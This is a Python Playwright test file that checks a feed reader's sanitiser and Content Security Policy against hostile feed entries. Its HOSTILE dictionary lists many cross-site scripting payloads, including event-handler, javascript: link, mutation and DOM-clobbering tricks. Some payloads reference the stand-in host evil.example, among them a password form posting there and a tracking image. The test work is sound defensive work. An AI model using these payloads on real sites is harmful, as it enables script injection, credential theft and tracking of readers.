"""Entries of people who mean harm do nothing: no script runs, no other host hears of the reader (SF-053)."""

import re
from urllib.parse import quote
from xml.sax.saxutils import escape, quoteattr

import pytest
from playwright.async_api import Error, expect

from support.browser import Opener
from support.component import ALICE
from support.prose import ATOM, html_entry
from support.web import Web

pytestmark = pytest.mark.needs("pages")

EVIL = "http://evil.example"
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-src": f"<script src='{EVIL}/x.js'></script>",
    "own-script": "<script src='/static/app.js'></script><script>alert(1)//</script",
    "onerror": f"<img src='{EVIL}/x.png' onerror='alert(1)'><img src=x onerror=alert(1)>",
    "onload": "<body onload=alert(1)><svg onload=alert(1)><style onload=alert(1)>*{color:red}</style>",
    "javascript": "<a href='javascript:alert(1)'>press</a><a href=' jav&#x09;ascript:alert(1)'>press</a>",
    "data-link": "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
    "svg": f"<svg><script>alert(1)</script><image href='{EVIL}/x.png'/><use href='{EVIL}/x.svg#a'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "style": f"<style>@import '{EVIL}/x.css'; body{{display:none}}</style>"
    f"<p style='background:url({EVIL}/x.png);position:fixed;inset:0'>over all</p>",
    "link": f"<link rel=stylesheet href='{EVIL}/x.css'><link rel=prefetch href='{EVIL}/'>"
    f"<link rel=dns-prefetch href='{EVIL}'>",
    "form": f"<form action='{EVIL}/login' id=q><input name=password autofocus onfocus=alert(1)>"
    "<button>OK</button></form>",
    "button": f"<button formaction='{EVIL}'>x</button><isindex><keygen autofocus onfocus=alert(1)>",
    "iframe": f"<iframe src='{EVIL}/'></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": f"<object data='{EVIL}/x.swf'><embed src='{EVIL}/x.swf'></object><applet code=x></applet>",
    "media": f"<video autoplay src='{EVIL}/x.mp4' poster='{EVIL}/x.png' onerror=alert(1)></video>"
    f"<audio src='{EVIL}/x'>",
    "picture": f"<picture><source srcset='{EVIL}/x.png'><img srcset='{EVIL}/y.png 2x' src=x></picture>",
    "base": f"<base href='{EVIL}/'><base target=_top>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/'><meta http-equiv=Set-Cookie content=a=b>",
    "clobber": "<a id=entries name=entries></a><p id=state>x</p><p id=total>9</p>"
    "<article class=entry id=e-1 data-id=x></article>",
    "unclosed": "<!-- <p>text</p></div></article></main><script>alert(1)</script><plaintext>",
    "comment": "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>"
    "<p title='</p><img src=x onerror=alert(1)>'>a</p><abbr title='<img src=x onerror=alert(1)>'>b</abbr>",
    "image-alt": "<img alt='\"><img src=x onerror=alert(1)>' src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template><slot name=x></slot><x-y onclick=alert(1)>z</x-y>",
    "dialog": "<dialog open onclose=alert(1)>x</dialog><details ontoggle=alert(1) open><summary>s</summary>d</details>",
    "deep": "<div>" * 5_000 + "bottom",
    "wide": "<b>" * 3_000 + "<a href=x>" * 1_500,
}


def titled(payload: str) -> str:
    """The payload everywhere where an entry has text, as text and as markup."""
    attribute = quoteattr(payload[:200])
    return (
        f"<entry xmlns='{ATOM}' xml:lang='&quot;&gt;x'><title type='html'>{escape(payload)}</title>"
        f"<author><name>{escape(payload)}</name><uri>javascript:alert(1)</uri></author>"
        f"<link rel='alternate' href='javascript:alert(1)'/><link rel='enclosure' href={attribute} title={attribute}/>"
        f"<category term={attribute} label={attribute}/><source><title>{escape(payload)}</title></source>"
        f"<content type='html'>{escape(payload)}</content></entry>"
    )


async def test_hostile_entries_do_nothing(web: Web, open_page: Opener) -> None:
    """No dialog, no request to another host, no complaint of the browser: nothing of it came as far as its policy."""
    await web.component.create(
        ALICE, "notes", title="<script>alert(1)</script>", description="<img src=x onerror=alert(1)>"
    )
    for name, payload in HOSTILE.items():
        await web.component.publish(ALICE, "notes", name, html_entry(name, payload))
        if len(payload) < 2_000:
            await web.component.publish(ALICE, "notes", f"{name}'\"><b>", titled(payload))
    tab = await open_page("/feeds/notes/?max=100")
    await tab.live()
    count = await tab.page.locator("article").count()
    assert count == len(await tab.page.locator("#entries > article").all()) > len(HOSTILE)
    forbidden = (
        "script, style, link, meta, base, iframe, object, embed, form, input, button, svg, math, video, audio, "
        "img:not([src^='data:image/']), [style], [class]:not(.picture):not(.wide), [id], [onerror], [onload], [onclick]"
    )
    assert await tab.page.locator(".body").locator(forbidden).count() == 0
    links = await tab.page.locator("#entries a[href]").evaluate_all("all => all.map(one => one.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", "xmpp:"}
    for link in await tab.page.locator(".body").get_by_text("press", exact=True).all():
        await link.click()
    await expect(tab.page.locator("h1")).to_have_text("<script>alert(1)</script>")
    await tab.shot("hostile", whole=False)
    tab.check()


async def test_hostile_entries_do_nothing_when_they_come_live(web: Web, open_page: Opener) -> None:
    """What the script puts into an open page is as clean as what was there."""
    await web.component.create(ALICE, "notes")
    await web.component.publish(ALICE, "notes", "first")
    tab = await open_page("/feeds/notes/")
    await tab.live()
    for name, payload in HOSTILE.items():
        await web.component.publish(
            ALICE, "notes", name, titled(payload) if len(payload) < 2_000 else html_entry("", payload)
        )
    await web.component.publish(ALICE, "notes", "last")
    pill = tab.page.locator("#pill")
    await expect(pill).to_have_text(f"{len(HOSTILE) + 1} new")
    await pill.click()
    await expect(tab.entry("last")).to_be_visible()
    await expect(tab.page.locator("#entries > article")).to_have_count(len(HOSTILE) + 2)
    tab.check()


async def test_pictures_are_links_until_somebody_wants_them(web: Web, open_page: Opener) -> None:
    """A picture of another host is a link through this service; one that is in the entry is shown."""
    dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAUEBAAAACwAAAAAAQABAAACAkQBADs="
    html = (
        f"<img src='{EVIL}/track.gif?who=you' alt='a cat'><img src='{dot}' alt='dot'>"
        f"<a href='{EVIL}/'><img src='{EVIL}/b.png'></a>"
    )
    await web.component.create(ALICE, "notes")
    await web.component.publish(ALICE, "notes", "a", html_entry("Cat", html))
    tab = await open_page("/feeds/notes/")
    address = await tab.page.get_by_role("link", name="a cat").get_attribute("href") or ""
    assert re.fullmatch(rf"/images/[0-9a-f]{{32}}\?url={quote(f'{EVIL}/track.gif?who=you', safe='')}", address)
    assert await tab.page.get_by_alt_text("dot").evaluate("one => one.naturalWidth") == 1
    await expect(tab.page.get_by_role("link", name="[picture]")).to_have_attribute("href", f"{EVIL}/")
    await expect(tab.page.get_by_role("link", name="a cat")).to_have_text("[picture: a cat]")
    for link in await tab.page.locator("#entries .body a:not(.load)").all():
        assert await link.get_attribute("rel") == "noopener noreferrer nofollow ugc"
    tab.check()


@pytest.mark.parametrize(
    "code",
    [
        "document.body.innerHTML = '<b>markup</b>'",
        "new DOMParser().parseFromString('<b>markup</b>', 'text/html')",
        "document.createElement('script').text = 'alert(1)'",
    ],
    ids=["innerHTML", "parser", "script"],
)
async def test_policy_lets_no_script_make_markup(code: str, web: Web, open_page: Opener) -> None:
    """The second wall: the policy refuses to turn text into markup or script, whoever asks."""
    await web.component.create(ALICE, "notes")
    tab = await open_page("/feeds/notes/")
    with pytest.raises(Error, match="Trusted"):
        await tab.page.evaluate(code)


async def test_policy_lets_nothing_of_others_in(web: Web, open_page: Opener) -> None:
    """The second wall: what gets past the cleaning is not loaded and not run, and the browser says so."""
    await web.component.create(ALICE, "notes")
    tab = await open_page("/feeds/notes/")
    blocked = await tab.page.evaluate(
        """async evil => {
          const seen = [];
          document.addEventListener("securitypolicyviolation", event => seen.push(event.effectiveDirective));
          const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
          add("img", {src: evil + "/x.png"});
          add("link", {rel: "stylesheet", href: evil + "/x.css"});
          add("iframe", {src: evil});
          add("video", {src: evil + "/x.mp4"});
          await fetch(evil).catch(() => {});
          while (seen.length < 5) await new Promise(done => document.addEventListener("securitypolicyviolation", done));
          return seen.sort();
        }""",
        EVIL,
    )
    assert blocked == ["connect-src", "frame-src", "img-src", "media-src", "style-src-elem"]
    assert tab.dialogs == []
